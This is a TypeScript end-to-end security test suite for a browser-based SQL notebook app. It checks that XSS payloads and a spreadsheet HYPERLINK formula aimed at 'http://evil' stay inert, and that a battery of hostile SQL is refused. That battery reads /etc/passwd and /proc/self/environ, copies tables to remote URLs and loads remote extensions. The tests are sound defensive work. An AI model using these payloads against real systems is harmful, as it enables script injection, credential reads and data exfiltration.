/**
 * Issue 10's privacy and hostile-text guarantees, in the production build: markup and formulas in
 * a file stay text on screen and in exports; every built-in notebook and a SQL cell that tries to
 * reach the network or the disk make no off-origin request; the page's CSP forbids other origins.
 */
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import type { Locator } from 'playwright-core';
import { openWatched, SCREENSHOT_DIR, type WatchedPage } from '../helpers/browser.ts';
import { startE2E, type E2E } from './setup.ts';
import { generateOrders } from '../../src/sample/generate.ts';
import { formatOrders, GENERIC_HEADER } from '../../src/sample/formats.ts';

let e2e: E2E;
beforeAll(async () => {
	e2e = await startE2E();
});
afterAll(async () => {
	await e2e?.close();
});

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=1</script>';
const FORMULA = '=HYPERLINK("http://evil","x")';
const HOSTILE = [IMG, SCRIPT, FORMULA];
const HOSTILE_HEADER = '<img src=x onerror=window.__pwned=2>';

/** The sample shop in the generic layout, with hostile text in every free-text column and a header. */
function hostileCsv(): Buffer {
	const text = [...formatOrders(generateOrders({ orders: 400, seed: 5 }), 'generic')].join('');
	const parsed = Papa.parse<string[]>(text.trim(), { skipEmptyLines: true });
	const [header, ...rows] = parsed.data;
	const col = (name: string) => GENERIC_HEADER.indexOf(name);
	const pickFor = (key: string) => HOSTILE[[...key].reduce((n, ch) => n + ch.charCodeAt(0), 0) % 3];
	const out = rows.map((r) => {
		const row = [...r];
		// By the original value, so one customer or product keeps one name across rows.
		row[col('customer_name')] = pickFor(r[col('customer_id')] || 'x');
		row[col('product_title')] = pickFor(r[col('product_id')]);
		row[col('channel')] = pickFor(r[col('channel')]);
		row[col('province')] = pickFor(r[col('province')]);
		return [...row, SCRIPT];
	});
	return Buffer.from(Papa.unparse([[...header, HOSTILE_HEADER], ...out]));
}

async function settle(w: WatchedPage) {
	await w.page.getByTestId('notebook').waitFor({ timeout: 90_000 });
	await w.page.waitForFunction(
		() =>
			document.querySelectorAll('[data-testid=cell]').length > 0 &&
			document.querySelectorAll('[data-testid=cell] [aria-busy=true]').length === 0,
		undefined,
		{ timeout: 120_000 }
	);
}

/** Adds a SQL cell at the end and returns it once its editor is ready. */
async function addSqlCell(w: WatchedPage, count: number): Promise<Locator> {
	await w.page.getByTestId('add-cell').click();
	await w.page.getByTestId('add-menu').getByRole('menuitem', { name: 'SQL' }).click();
	const cells = w.page.locator('[data-cell-kind=sql]');
	await expect.poll(() => cells.count(), { timeout: 10_000 }).toBe(count);
	const cell = cells.last();
	await cell.locator('.cm-content').waitFor({ timeout: 30_000 });
	return cell;
}

const pwned = (w: WatchedPage) =>
	w.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);

/** Elements whose own text contains `s` (so it was rendered as text, not parsed as markup). */
const textNodesWith = (w: WatchedPage, s: string) =>
	w.page.evaluate((needle) => {
		const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
		let n = 0;
		while (walker.nextNode()) if (walker.currentNode.textContent?.includes(needle)) n++;
		// Chart tooltips and long table cells carry the text in attributes too.
		for (const el of document.querySelectorAll('[title], [aria-label]'))
			if ((el.getAttribute('title') ?? el.getAttribute('aria-label') ?? '').includes(needle)) n++;
		return n;
	}, s);

describe('hostile text', () => {
	test('markup and formulas in a file stay text on screen and in the exported list', async () => {
		const w = await openWatched(e2e.browser, e2e.server.url);
		await w.page.waitForSelector('[data-testid=engine-status].ready', { timeout: 60_000 });
		await w.page.getByTestId('file-input').setInputFiles({
			name: 'hostile.csv',
			mimeType: 'text/csv',
			buffer: hostileCsv()
		});
		const preview = w.page.getByTestId('import-preview');
		await preview.waitFor({ timeout: 30_000 });
		expect(await preview.innerText()).toContain(HOSTILE_HEADER);
		await w.screenshot('20-security-import-preview');
		await w.page.getByTestId('import-button').click();
		await settle(w);
		await w.screenshot('21-security-starter-notebook');
		// No markup became an element: no <img src=x> anywhere, and the page never ran the payloads.
		expect(await w.page.locator('img[src=x], img[src$="/x"]').count()).toBe(0);
		expect(await pwned(w)).toBeUndefined();
		// The channel and province values are chart labels / legends / table cells in the starter.
		for (const s of HOSTILE) expect(await textNodesWith(w, s), s).toBeGreaterThan(0);
		await w.page
			.locator('[data-testid=cell]', { hasText: SCRIPT })
			.first()
			.screenshot({ path: path.join(SCREENSHOT_DIR, '21-security-cell-with-hostile-labels.png') });

		// A drill-down's customer list, from the first analysis' first table with rows that open one
		// (the notebook opens with a note above its analyses).
		const cell = w.page.locator('[data-testid=cell][data-cell-kind=preset]').first();
		const tableTab = cell.getByRole('tab', { name: 'Table' }).first();
		if (await tableTab.count()) await tableTab.click();
		await cell.getByRole('gridcell').first().dblclick();
		const list = w.page.getByTestId('customer-list');
		await list.getByTestId('export-csv').waitFor({ timeout: 60_000 });
		expect(await list.innerText()).toContain(FORMULA);
		await list.screenshot({ path: path.join(SCREENSHOT_DIR, '22-security-customer-list.png') });
		const [download] = await Promise.all([
			w.page.waitForEvent('download'),
			list.getByTestId('export-csv').click()
		]);
		const file = await download.path();
		const csv = readFileSync(file, 'utf8').replace(/^\uFEFF/, '');
		const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
		const names = cells.filter((c) => c.includes('HYPERLINK'));
		expect(names.length).toBeGreaterThan(0);
		for (const c of names) expect(c.startsWith("'"), c).toBe(true);
		// No exported cell starts with a character a spreadsheet would run as a formula.
		for (const c of cells) expect(/^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c), c).toBe(false);

		expect(await pwned(w)).toBeUndefined();
		expect(w.offOrigin).toEqual([]);
		expect(w.consoleErrors).toEqual([]);
		await w.context.close();
	}, 300_000);
});

/**
 * Hostile statements (issue 21's sandbox battery) and what must stop them: a cell refuses
 * statements that are not queries before they reach the engine (`sql.read-only`; allowed to
 * change data, it still refuses these as `sql.never`), and the engine's sandbox refuses the
 * queries that reach out (`engine.sandbox`, or a missing extension). null: a harmless query that
 * may run. None may make a request off the page's origin.
 */
const REFUSED = /^sql\.(read-only|never|protected|temp)$/;
const SANDBOX = /^engine\.(sandbox|extension|catalog|binder|query)$/;
const HOSTILE_SQL = (origin: string): [string, RegExp | null][] => [
	// Every sandbox setting, set, reset and pragma'd back.
	...[
		'enable_external_access=true',
		'autoload_known_extensions=true',
		'autoinstall_known_extensions=true',
		"allowed_directories=['/']",
		"allowed_paths=['/etc/passwd']",
		'lock_configuration=false',
		"memory_limit='100GB'",
		"temp_directory='/tmp'",
		"search_path='memory.main'",
		"schema='main'",
		"custom_extension_repository='https://example.com'",
		'allow_unsigned_extensions=true',
		'enable_logging=true',
		"profiling_output='/huitou/profile.json'",
		"log_query_path='/huitou/queries.log'"
	].flatMap((s): [string, RegExp][] => [
		[`SET ${s}`, REFUSED],
		[`SET GLOBAL ${s}`, REFUSED],
		[`RESET ${s.split('=')[0]}`, REFUSED],
		[`PRAGMA ${s}`, REFUSED]
	]),
	['PRAGMA enable_profiling', REFUSED],
	['CALL enable_logging()', REFUSED],
	// Extensions, local and remote.
	['INSTALL httpfs', REFUSED],
	["INSTALL httpfs FROM 'https://example.com'", REFUSED],
	['FORCE INSTALL httpfs', REFUSED],
	['LOAD httpfs', REFUSED],
	["LOAD '/huitou/x.duckdb_extension'", REFUSED],
	["LOAD 'https://example.com/x.duckdb_extension'", REFUSED],
	// Other databases.
	["ATTACH 'https://example.com/db.duckdb' AS remote", REFUSED],
	["ATTACH 's3://bucket/db.duckdb' AS remote", REFUSED],
	["ATTACH 'opfs://stolen.db' AS remote", REFUSED],
	["ATTACH '/huitou/../db.duckdb' AS remote", REFUSED],
	['USE memory', REFUSED],
	['DETACH huitou', REFUSED],
	['DETACH scratch', REFUSED],
	// Files and addresses outside the loaded files.
	["SELECT * FROM read_csv('/')", SANDBOX],
	["SELECT * FROM read_csv('/etc/passwd')", SANDBOX],
	["SELECT * FROM read_text('/proc/self/environ')", SANDBOX],
	["SELECT * FROM read_text('file:///etc/hostname')", SANDBOX],
	["SELECT * FROM read_blob('/huitou/../etc/passwd')", SANDBOX],
	["SELECT * FROM glob('/*')", SANDBOX],
	["SELECT * FROM glob('/proc/*')", SANDBOX],
	[`SELECT * FROM read_text('${origin}/index.html')`, SANDBOX],
	["SELECT * FROM read_csv('https://example.com/steal.csv')", SANDBOX],
	["SELECT * FROM read_parquet('https://example.com/x.parquet')", SANDBOX],
	["COPY (SELECT * FROM orders) TO 'http://example.com/x.csv'", REFUSED],
	["COPY (SELECT * FROM orders) TO '/huitou/../tmp/out.csv'", REFUSED],
	["COPY orders FROM '/huitou/sample-orders.csv'", REFUSED],
	["EXPORT DATABASE 'https://example.com/dump'", REFUSED],
	["EXPORT DATABASE '/huitou/dump'", REFUSED],
	["IMPORT DATABASE '/huitou/dump'", REFUSED],
	// Secrets.
	["CREATE SECRET s3 (TYPE s3, KEY_ID 'a', SECRET 'b')", REFUSED],
	["CREATE PERSISTENT SECRET s4 (TYPE s3, KEY_ID 'a', SECRET 'b')", REFUSED],
	['SELECT * FROM duckdb_secrets()', null],
	['DROP SECRET s3', REFUSED],
	['CHECKPOINT', REFUSED],
	['BEGIN TRANSACTION', REFUSED]
];

describe('privacy: nothing leaves the page', () => {
	test('every built-in notebook on the sample, then hostile SQL: refused, no request out', async () => {
		const w = await openWatched(e2e.browser, e2e.server.url);
		await w.page.getByTestId('sample').click();
		await settle(w);
		const nbs = w.page.getByTestId('notebooks');
		for (const [i, title] of ['Store health', 'RFM playbook', 'Campaign review'].entries()) {
			await nbs.getByRole('button', { name: title, exact: true }).click();
			await w.page.waitForFunction(
				(t) => document.querySelector('[data-testid=notebook]')?.textContent?.includes(t),
				title,
				{ timeout: 30_000 }
			);
			await settle(w);
			await w.screenshot(`23-security-builtin-${i + 1}`);
			const errors = await w.page.locator('[data-testid=cell] [role=alert]').allTextContents();
			expect(errors, title).toEqual([]);
		}

		// One cell for every statement: its result says "stale" until the statement has run.
		const cell = await addSqlCell(w, 1);
		await cell.getByRole('gridcell').first().waitFor({ timeout: 60_000 });
		const outcome = async (stmt: string) => {
			await cell.locator('.cm-content').fill(stmt);
			await cell.getByTestId('sql-stale').waitFor({ timeout: 10_000 });
			await cell.locator('.cm-content').press('Shift+Enter');
			await cell.getByTestId('sql-stale').waitFor({ state: 'detached', timeout: 60_000 });
			// While it runs the cell names its step instead of "stale": done when Cancel has gone.
			await cell
				.getByRole('button', { name: 'Cancel' })
				.waitFor({ state: 'detached', timeout: 60_000 });
			const alert = cell.locator('[role=alert][data-code]');
			return (await alert.count()) ? ((await alert.getAttribute('data-code')) ?? '?') : 'ran';
		};
		const statements = HOSTILE_SQL(new URL(e2e.server.url).origin);
		const seen: string[] = [];
		for (const [stmt, code] of statements) {
			const got = await outcome(stmt);
			seen.push(`${stmt} → ${got}`);
			if (code) expect(got, stmt).toMatch(code);
		}
		// Allowed to change data, the cell still refuses every one that is not a query.
		await cell.getByTestId('may-write').check();
		for (const [stmt, code] of statements) {
			if (code !== REFUSED) continue;
			const got = await outcome(stmt);
			seen.push(`may change data: ${stmt} → ${got}`);
			expect(got, stmt).toMatch(REFUSED);
		}
		console.log(`hostile SQL (${seen.length}):\n  ${seen.join('\n  ')}`);
		await w.screenshot('24-security-hostile-sql');
		// And the engine still answers: the sandbox refused, it did not break.
		expect(await outcome('SELECT 6 * 7 AS answer')).toBe('ran');
		expect(await cell.getByRole('gridcell').first().innerText()).toBe('42');
		expect(w.offOrigin).toEqual([]);
		await w.context.close();
	}, 600_000);
});

describe('content security policy', () => {
	test('dist/index.html allows only its own origin', () => {
		const html = readFileSync(path.resolve('dist/index.html'), 'utf8');
		const meta = /<meta\s+http-equiv="Content-Security-Policy"\s+content="([^"]+)"/i.exec(html);
		expect(meta).not.toBeNull();
		const directives = new Map(
			meta![1]
				.split(';')
				.map((d) => d.trim().split(/\s+/))
				.filter((d) => d[0])
				.map(([name, ...values]) => [name, values])
		);
		const sources = (name: string) => directives.get(name) ?? directives.get('default-src') ?? [];
		expect(directives.get('default-src')).toEqual(["'self'"]);
		for (const name of ['connect-src', 'script-src', 'img-src', 'font-src', 'worker-src']) {
			for (const s of sources(name)) {
				// Only keywords and local schemes: no host, no wildcard, no http(s): scheme.
				expect(s, `${name} ${s}`).toMatch(/^('self'|'wasm-unsafe-eval'|'none'|blob:|data:)$/);
			}
		}
		expect(sources('script-src')).not.toContain("'unsafe-eval'");
		expect(sources('script-src')).not.toContain("'unsafe-inline'");
		expect(sources('script-src')).not.toContain('data:');
		expect(directives.get('object-src')).toEqual(["'none'"]);
		expect(directives.get('form-action')).toEqual(["'none'"]);
	});
});
